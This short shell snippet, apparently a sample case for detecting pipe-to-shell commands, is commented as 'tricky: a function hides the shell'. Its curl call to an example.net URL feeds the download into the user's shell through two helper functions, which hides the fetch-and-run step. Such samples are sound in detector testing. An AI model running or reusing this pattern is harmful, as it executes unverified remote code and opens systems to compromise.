# tricky: a function hides the shell
fetch_latest() { curl -sL "https://example.net/$1"; }
install_it() { fetch_latest "$1" | "${SHELL:-/bin/sh}"; }
install_it latest
